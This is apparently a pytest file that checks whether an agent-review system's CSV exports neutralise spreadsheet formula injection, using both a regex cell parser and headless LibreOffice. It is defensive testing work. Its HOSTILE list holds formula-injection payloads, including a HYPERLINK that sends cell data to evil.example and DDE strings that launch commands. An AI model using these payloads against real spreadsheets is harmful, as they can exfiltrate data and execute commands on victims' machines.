"""Exports in spreadsheets: LibreOffice, where it is installed, finds no formula in them, in either kind of locale."""

import csv
import io
import re
import shutil
import subprocess
import zipfile
from collections.abc import Iterable, Iterator
from pathlib import Path

import pytest

from agents.protocol import Action, ContextEntry, ContextKind, Impact, Reason, Respond
from review.audit import Actor, EventFilter
from review.exports import audit_csv, decisions_csv, labels_csv
from review.items import DecisionFilter, ItemFilter
from tests.builders import a_decision, a_request, ada, an_event, an_item, keeping, mary
from tests.console import Console

HOSTILE = (
    '=HYPERLINK("http://evil.example?"&A1)',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    '";=1+1;"',
    "a;=1+1",
    'a; "=1+1";+2',
    '","=1+1","',
    "\t=1+1",
    "\r\n=1+1\r\n",
    "＝1+1",  # noqa: RUF001 -- the full-width form is what is tested
    "  =1+1",
    "{=1+1}",
    "'=1+1",
)
SEPARATORS = {"comma": ",", "semicolon": ";"}
STARTS_A_FORMULA = re.compile(r"\s*[=+\-@＝＋－＠]")  # noqa: RUF001 -- the full-width forms are what is tested

needs_libreoffice = pytest.mark.skipif(
    shutil.which("soffice") is None, reason="LibreOffice is not installed (on Debian: apt install libreoffice-calc)"
)


@pytest.fixture
def exports(house: Console) -> dict[str, bytes]:
    """What a house exports whose agents and reviewers write formulas wherever they can."""
    items = [
        an_item(
            request=a_request(
                action=Action(name="refund_order", args={text: text}),
                context=(ContextEntry(kind=ContextKind.MESSAGE, role="user", title=text, content=text),),
                impact=Impact(subject=text),
                description=text,
                rationale=text,
            ),
            reasons=(Reason(code="rule", text=text),),
        )
        for text in HOSTILE
    ]
    decisions = [a_decision(item, decision=Respond(message=text)) for item, text in zip(items, HOSTILE, strict=True)]
    named = [a_decision(items[0], iss=text, sub=text, name=text) for text in HOSTILE]
    happened = [an_event(actor=Actor("agent", text, text), data={"told": text}) for text in HOSTILE]
    house.store.write(keeping(*items, *decisions, *named, *happened))
    everything = DecisionFilter(ItemFilter(agent="support"))
    return {
        "audit": b"".join(audit_csv(house.records.audit_events(mary, EventFilter()))),
        "decisions": b"".join(decisions_csv(house.records.decisions(mary, everything))),
        "labels": b"".join(labels_csv(house.records.labels(mary, everything))),
    }


def as_libreoffice_reads(content: str, separator: str) -> Iterator[str]:
    """The cells of a file: a quote opens a cell only at its start, and what follows the closing one belongs to it."""
    cells = re.compile(rf'(?:"(?P<quoted>(?:[^"]|"")*)"?)?(?P<rest>[^{separator}\r\n]*)(?:{separator}|\r\n|\n|\r|\Z)')
    at = 0
    while at < len(content):
        found = cells.match(content, at)
        assert found is not None
        yield (found["quoted"] or "").replace('""', '"') + found["rest"]
        at = found.end()


def is_formula(cell: str) -> bool:
    return STARTS_A_FORMULA.match(cell) is not None


def unescaped(rows: Iterable[Iterable[str]]) -> bytes:
    """A file as it would be without our escapes."""
    text = io.StringIO()
    csv.writer(text, quoting=csv.QUOTE_ALL).writerows(rows)
    return text.getvalue().encode()


def opened_in_libreoffice(folder: Path, files: dict[str, bytes], separator: str, form: str) -> dict[str, bytes]:
    """The files as LibreOffice keeps them once it has opened them, evaluating every formula that it finds."""
    for name, content in files.items():
        (folder / f"{name}.csv").write_bytes(content)
    # Separator, quote, UTF-8, from line 1, no column formats, no language; quoted cells are not text as such, numbers
    # are looked for, formulas are evaluated (Text-CSV filter options, help.libreoffice.org).
    options = f"{ord(separator)},34,76,1,,0,false,true,false,false,false,0,true"
    subprocess.run(
        [
            *("soffice", f"-env:UserInstallation={(folder / 'profile').as_uri()}", "--headless", "--norestore"),
            *("--convert-to", form, "--outdir", str(folder / form)),
            f"--infilter=Text - txt - csv (StarCalc):{options}",
            *(str(folder / f"{name}.csv") for name in files),
        ],
        check=True,
        capture_output=True,
        timeout=120,
    )
    return {name: (folder / form / f"{name}.{form}").read_bytes() for name in files}


def formulas_in(content: bytes, form: str) -> list[str]:
    if form == "fods":
        return re.findall(r'table:formula="([^"]*)"', content.decode())
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        sheets = [name for name in book.namelist() if name.startswith("xl/worksheets/sheet")]
        return [found for name in sheets for found in re.findall(r"<f[ >][^<]*", book.read(name).decode())]


@pytest.mark.parametrize("separator", SEPARATORS.values(), ids=list(SEPARATORS))
def test_no_cell_of_an_export_starts_as_a_formula(exports: dict[str, bytes], separator: str) -> None:
    found = {
        name: [cell for cell in as_libreoffice_reads(content.decode(), separator) if is_formula(cell)]
        for name, content in exports.items()
    }

    assert found == {"audit": [], "decisions": [], "labels": []}
    assert any(is_formula(cell) for cell in as_libreoffice_reads(unescaped([HOSTILE]).decode(), separator))


@needs_libreoffice
@pytest.mark.parametrize("form", ["fods", "xlsx"])
@pytest.mark.parametrize("separator", SEPARATORS.values(), ids=list(SEPARATORS))
def test_libreoffice_finds_no_formula_in_an_export(
    exports: dict[str, bytes], tmp_path: Path, separator: str, form: str
) -> None:
    files = exports | {"unescaped": unescaped([text] for text in HOSTILE)}

    books = opened_in_libreoffice(tmp_path, files, separator, form)

    found = {name: formulas_in(content, form) for name, content in books.items()}
    assert found.pop("unescaped")
    assert found == {"audit": [], "decisions": [], "labels": []}


@needs_libreoffice
def test_libreoffice_shows_a_cell_as_it_was_exported(exports: dict[str, bytes], tmp_path: Path) -> None:
    books = opened_in_libreoffice(tmp_path, exports, ",", "csv")

    read = {name: list(csv.DictReader(io.StringIO(book.decode(), newline=""))) for name, book in books.items()}
    written = {name: list(csv.DictReader(io.StringIO(file.decode(), newline=""))) for name, file in exports.items()}
    for name, column in (("audit", "actor_name"), ("decisions", "message"), ("labels", "message")):
        assert [row[column] for row in read[name]] == [row[column] for row in written[name]]
    assert ada.name in {row["reviewer_name"] for row in read["decisions"]}
